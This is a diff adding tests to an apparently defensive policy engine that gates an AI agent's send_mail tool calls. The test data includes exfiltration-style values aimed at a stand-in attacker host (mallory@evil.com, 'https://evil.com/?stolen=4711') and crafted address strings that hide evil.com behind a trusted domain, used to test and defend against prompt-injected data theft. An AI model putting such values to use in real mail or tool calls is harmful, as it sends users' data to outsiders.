@@ -179,6 +179,54 @@ test("G93 under which labels a target was seen is told, and what never came in w
   expect(verdicts(await runtime.complete("clerk", "go"), "send_mail")).toEqual(["deny", "allow"]);
 });
 
+test("G93 what a value leads to was seen when the host or the address in it was, whatever stands around it", async () => {
+  const seen =
+    'permit (principal, action == Action::"tool:send_mail", resource) unless { context.facts.to.seenUnder.contains("untrusted") };';
+  const to = ["Zed <mallory@evil.com>", "https://evil.com/?stolen=4711", "https://elsewhere.test/?stolen=4711"];
+  const runtime = await open(seen, script(["read_mail", {}], ...to.map((one): Step => ["send_mail", { to: one }])));
+  expect(verdicts(await runtime.complete("clerk", "go"), "send_mail")).toEqual(["deny", "deny", "allow"]);
+});
+
+test("G94 a known domain is not lent to another by standing at the end of a value", async () => {
+  const directory = join(folder(), ".orgate");
+  const values = [
+    "ben@example.net",
+    "mallory@evil.com,ben@example.net",
+    "mallory@evil.com ben@example.net",
+    "mallory@evil.com;ben@example.net",
+    "Ben <mallory@evil.com>@example.net",
+    "evil.com?b@example.net",
+    "evil.com#b@example.net",
+    "evil.com\\@example.net",
+    "https://evil.com?b@example.net",
+    "https://example.net",
+    "mailto:ben@example.net",
+    "mailto:mallory@evil.com?cc=ben@example.net",
+  ];
+  const runtime = await open(vouched, script(), directory);
+  const ann = createPerson(join(directory, "home"), "ann", ed25519);
+  await runtime.place.keyring.certifyPerson("ann", ann.key.publicKey);
+  await runtime.known.add({ set: "domains", value: "example.net", why: "ours" }, ann);
+  const allowed: string[] = [];
+  for (const to of values) {
+    const one = await open(vouched, script(["send_mail", { to }]), directory);
+    if (verdicts(await one.complete("clerk", "go"), "send_mail")[0] === "allow") allowed.push(to);
+  }
+  expect(allowed).toEqual(["ben@example.net", "https://example.net", "mailto:ben@example.net"]);
+});
+
+test("G95 however many links stand in a text, nobody vouches for one that is not looked at", async () => {
+  const policy = 'permit (principal, action == Action::"tool:send_mail", resource) when { context.outgoing.vouched };';
+  const many = (n: number): string => Array.from({ length: n }, (_, i) => `https://example.net/${1000 + i}`).join(" ");
+  const body = (text: string): Step => ["send_mail", { to: "ben@example.org", body: text }];
+  const directory = join(folder(), ".orgate");
+  const runtime = await open(policy, script(body(many(150)), body(`${many(250)} https://zzz.evil.com/`)), directory);
+  const ann = createPerson(join(directory, "home"), "ann", ed25519);
+  await runtime.place.keyring.certifyPerson("ann", ann.key.publicKey);
+  await runtime.known.add({ set: "domains", value: "example.net", why: "ours" }, ann);
+  expect(verdicts(await runtime.complete("clerk", "go"), "send_mail")).toEqual(["allow", "deny"]);
+});
+
 test("G94 a person adds to a trusted set and takes out of it, a tool that declares it learns, and every process sees it", async () => {
   const directory = join(folder(), ".orgate");
   const to = (value: string): Step => ["send_mail", { to: value }];
